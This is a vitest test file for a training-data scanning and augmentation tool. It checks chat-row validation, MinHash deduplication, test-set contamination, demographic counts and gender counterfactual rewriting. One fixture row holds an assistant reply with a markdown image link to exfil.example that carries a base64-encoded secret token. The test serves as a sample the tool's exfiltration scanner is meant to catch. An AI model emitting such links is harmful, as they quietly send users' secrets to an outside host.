import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { augmentDataset } from '../augment/augment-dataset.js';
import { estimateJaccard, minHash } from './min-hash.js';
import { renderDatasetReport } from './render-dataset-report.js';
import { scanDataset } from './scan-dataset.js';
import { validateChatRow } from './validate-chat-row.js';

function file(name: string, rows: unknown[]): string {
  const path = join(mkdtempSync(join(tmpdir(), 'palisade-dataset-')), name);
  writeFileSync(path, `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`);
  return path;
}

const chat = (user: string, assistant: string) => ({
  messages: [
    { role: 'system', content: 'You are a helpful assistant.' },
    { role: 'user', content: user },
    { role: 'assistant', content: assistant },
  ],
});

describe('validateChatRow', () => {
  it('accepts a well-formed conversation', () => {
    expect(validateChatRow(chat('hi', 'hello'), 1).issues).toEqual([]);
  });

  it('names each problem with its line', () => {
    const codes = (row: unknown) => validateChatRow(row, 7).issues.map((issue) => issue.code);
    expect(
      codes({
        messages: [
          { role: 'user', content: 'x' },
          { role: 'system', content: 'late' },
        ],
      }),
    ).toEqual(['system-not-first', 'no-assistant']);
    expect(
      codes({
        messages: [
          { role: 'wizard', content: 'x' },
          { role: 'assistant', content: '' },
        ],
      }),
    ).toContain('role-invalid');
    expect(
      codes({
        messages: [
          { role: 'user', content: 'x' },
          { role: 'assistant', content: '' },
        ],
      }),
    ).toEqual(['content-empty']);
    expect(
      codes({
        messages: [
          { role: 'tool', content: '{}' },
          { role: 'assistant', content: 'ok' },
        ],
      }),
    ).toContain('tool-without-call');
    expect(codes({ prompt: 'x' })).toEqual(['messages-missing']);
    expect(validateChatRow({ messages: [] }, 7).issues[0]?.line).toBe(7);
  });
});

describe('minHash', () => {
  it('estimates Jaccard similarity', () => {
    const a = 'the quick brown fox jumps over the lazy dog near the river bank today';
    expect(estimateJaccard(minHash(a), minHash(a))).toBe(1);
    expect(estimateJaccard(minHash(a), minHash(a.replace('today', 'tonight')))).toBeGreaterThan(0.7);
    expect(
      estimateJaccard(minHash(a), minHash('completely different words about cooking pasta with garlic and oil')),
    ).toBeLessThan(0.1);
  });
});

describe('scanDataset', () => {
  it('validates, deduplicates, checks contamination, counts statistics and cleans', async () => {
    const rows = [
      chat('What is the capital of France?', 'Paris is the capital of France.'),
      chat('What is the capital of France?', 'Paris is the capital of France.'),
      chat(
        'Summarise the plot of Hamlet in a few sentences for a school report please',
        'Prince Hamlet seeks revenge against his uncle Claudius who murdered his father and married his mother.',
      ),
      { messages: [{ role: 'user', content: 'no answer here' }] },
      chat(
        'Show me a picture',
        'Sure: ![x](https://exfil.example/log.png?data=c2VjcmV0LXRva2VuLXZhbHVlLTk4NzY1NDMyMQ)',
      ),
      chat('Tell me about her work', 'She is a nurse and her brother is a teacher.'),
    ];
    const train = file('train.jsonl', rows);
    const test = file('test.jsonl', [
      chat(
        'Summarise the plot of Hamlet in a few sentences for a school report please',
        'Prince Hamlet seeks revenge against his uncle Claudius who murdered his father and married his mother!',
      ),
    ]);
    const clean = join(mkdtempSync(join(tmpdir(), 'palisade-dataset-')), 'clean.jsonl');
    const report = await scanDataset({
      file: train,
      format: 'openai-chat',
      textField: 'text',
      compareFile: test,
      cleanFile: clean,
      scanners: ['exfiltration'],
    });
    expect(report.rows).toBe(6);
    expect(report.rowsWithErrors).toBe(1);
    expect(report.issues.byCode['no-assistant']).toBe(1);
    expect(report.issues.examples[0]?.line).toBe(4);
    expect(report.duplicates.exact).toBe(1);
    expect(report.duplicates.examples[0]).toMatchObject({ line: 2, duplicateOf: 1 });
    expect(report.contamination?.near).toBe(1);
    expect(report.contamination?.examples[0]).toMatchObject({ line: 3, compareLine: 1 });
    expect(report.findings.flaggedRows).toBe(1);
    expect(report.findings.rowsByScanner.exfiltration).toBe(1);
    expect(report.statistics.roles).toMatchObject({ system: 5, user: 6, assistant: 5 });
    expect(report.demographics.counts.gender?.female).toBeGreaterThanOrEqual(3);
    expect(report.clean).toMatchObject({ kept: 4, dropped: 2 });
    const cleaned = readFileSync(clean, 'utf8').trim().split('\n');
    expect(cleaned).toHaveLength(4);
    const log = readFileSync(report.clean?.log ?? '', 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(log.map((entry) => entry.line)).toEqual([4, 5]);
    expect(renderDatasetReport(report)).toContain('Demographic-term balance');
  });

  it('reads CSV with a text column', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'palisade-dataset-')), 'rows.csv');
    writeFileSync(path, 'id,text\n1,"hello, world"\n2,\n3,"multi\nline"\n');
    const report = await scanDataset({ file: path, format: 'csv', textField: 'text', scanners: [] });
    expect(report.rows).toBe(3);
    expect(report.issues.examples[0]).toMatchObject({ code: 'content-empty', line: 3 });
  });
});

describe('augmentDataset', () => {
  it('writes consistent counterfactual variants, logs swaps and improves balance', async () => {
    const input = file('in.jsonl', [
      {
        messages: [
          { role: 'user', content: 'My father said he would call his brother.' },
          { role: 'assistant', content: 'Tell him I said hello.' },
        ],
      },
      {
        messages: [
          { role: 'user', content: 'What is 2 + 2?' },
          { role: 'assistant', content: '4' },
        ],
      },
    ]);
    const out = join(mkdtempSync(join(tmpdir(), 'palisade-augment-')), 'out.jsonl');
    const report = await augmentDataset({
      file: input,
      out,
      format: 'openai-chat',
      textField: 'text',
      attributes: ['gender'],
    });
    expect(report.rows).toBe(2);
    expect(report.variants).toBe(1);
    const written = readFileSync(out, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(written).toHaveLength(3);
    expect(written[1].messages.map((message: { content: string }) => message.content)).toEqual([
      'My mother said she would call her sister.',
      'Tell her I said hello.',
    ]);
    expect(written[1].counterfactual).toEqual({ sourceLine: 1, attribute: 'gender' });
    expect(report.before.balance.gender).toBe(0);
    expect(report.after.balance.gender).toBe(1);
    expect(readFileSync(report.log, 'utf8')).toContain('"father"');
  });
});
